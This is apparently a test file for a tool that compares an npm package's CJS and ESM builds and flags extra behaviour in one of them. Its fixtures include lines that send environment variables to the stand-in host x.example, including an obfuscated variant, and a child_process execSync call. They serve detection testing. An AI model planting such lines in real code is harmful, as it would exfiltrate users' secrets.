import assert from 'node:assert/strict';
import { analysePackage } from '../../../../server/src/artifacts/analysis/analyse.js';
import { packageOf } from '../../../support/artifacts.js';

const EXPORTS = { exports: { '.': { require: './dist/index.cjs', import: './dist/index.mjs' } } };
const SOURCE = `export function pad(text, width) { return text.padStart(width, 'fill-with-this'); }
export function trim(text) { if (text.length > 10) throw new Error('text is too long'); return text.trimEnd(); }`;
const ESM = SOURCE;
const CJS = `'use strict';\n${SOURCE.replaceAll('export ', '')}\nmodule.exports = { pad, trim };`;
const PAYLOAD = "\nrequire('https').get('https://x.example/' + Object.keys(process.env).join());";

const differences = (manifest: object, files: Readonly<Record<string, string>>): readonly string[] =>
  analysePackage(packageOf({ 'package.json': JSON.stringify(manifest), ...files }))
    .behaviours.filter(({ kind }) => kind === 'entries-differ')
    .map(({ detail, place }) => `${detail ?? ''} (${place.file}:${place.line})`);

describe('builds of one source', () => {
  it('differ where one got something more, whichever it is', () => {
    const files = { 'dist/index.cjs': CJS + PAYLOAD, 'dist/index.mjs': ESM };
    assert.deepEqual(differences(EXPORTS, files), [
      'uses the network in dist/index.cjs and not in dist/index.mjs (dist/index.cjs:5)',
      'reads the whole environment in dist/index.cjs and not in dist/index.mjs (dist/index.cjs:5)',
    ]);
    const other = { 'dist/index.cjs': CJS, 'dist/index.mjs': `${ESM}\nawait fetch('https://x.example');` };
    assert.deepEqual(differences(EXPORTS, other), [
      'uses the network in dist/index.mjs and not in dist/index.cjs (dist/index.mjs:3)',
    ]);
    const old = { main: 'dist/index.cjs', module: 'dist/index.mjs' };
    assert.equal(differences(old, files).length, 2);
  });

  it('differ in what they load, too', () => {
    const files = {
      'dist/index.cjs': `${CJS}\nrequire('./extra');`,
      'dist/extra.js': "require('child_process').execSync('id');",
      'dist/index.mjs': ESM,
    };
    assert.deepEqual(differences(EXPORTS, files), [
      'starts programs in dist/extra.js and not in dist/index.mjs (dist/extra.js:1)',
    ]);
  });

  it('differ in what the interpreter sees and the text hides', () => {
    const hidden = `\nvar k = ['ht', 'tps']; require(k.join('')).get('https://x.example/?' + JSON['stringify'](process['env']));`;
    const found = differences(EXPORTS, { 'dist/index.cjs': CJS + hidden, 'dist/index.mjs': ESM });
    assert.deepEqual(found, ['uses the network in dist/index.cjs and not in dist/index.mjs (dist/index.cjs:1)']);
  });

  it('are compared with the source that lies beside them, and with that in their maps', () => {
    const main = { main: 'lib/index.js' };
    assert.deepEqual(
      differences(main, { 'lib/index.js': CJS + PAYLOAD, 'src/index.ts': ESM, 'src/a.test.ts': PAYLOAD }),
      [
        'uses the network in lib/index.js and not in src (lib/index.js:5)',
        'reads the whole environment in lib/index.js and not in src (lib/index.js:5)',
      ],
    );
    const map = JSON.stringify({ version: 3, sources: ['index.ts'], sourcesContent: [ESM], mappings: '' });
    assert.equal(differences(main, { 'lib/index.js': CJS + PAYLOAD, 'lib/index.js.map': map }).length, 2);
    const partial = JSON.stringify({ version: 3, sources: ['index.ts', 'b.ts'], sourcesContent: [ESM, null] });
    assert.deepEqual(differences(main, { 'lib/index.js': CJS + PAYLOAD, 'lib/index.js.map': partial }), []);
  });

  const honest: readonly (readonly [what: string, manifest: object, files: Readonly<Record<string, string>>])[] = [
    ['equal builds', EXPORTS, { 'dist/index.cjs': CJS + PAYLOAD, 'dist/index.mjs': ESM + PAYLOAD }],
    [
      'a module that only hands on the other build',
      EXPORTS,
      {
        'dist/index.cjs': CJS + PAYLOAD,
        'dist/index.mjs': "import all from './index.cjs'; export const { pad, trim } = all;",
      },
    ],
    [
      'a bundle beside a build whose dependencies are installed',
      EXPORTS,
      { 'dist/index.cjs': CJS + PAYLOAD, 'dist/index.mjs': `import get from 'some-client';\n${ESM}\nget('x');` },
    ],
    [
      'two that have little in common',
      EXPORTS,
      {
        'dist/index.cjs': CJS + PAYLOAD,
        'dist/index.mjs': "export const browserOnly = window.document.querySelector('main');",
      },
    ],
    [
      'a source that can do more than what was built of it',
      { main: 'lib/index.js' },
      { 'lib/index.js': CJS, 'src/a.ts': ESM + PAYLOAD },
    ],
    ['a build that is the source', { main: 'src/index.js' }, { 'src/index.js': CJS + PAYLOAD, 'src/other.js': CJS }],
    ['a single entry', { main: 'index.js' }, { 'index.js': CJS + PAYLOAD }],
  ];
  for (const [what, manifest, files] of honest)
    it(`say nothing of ${what}`, () => {
      assert.deepEqual(differences(manifest, files), []);
    });
});
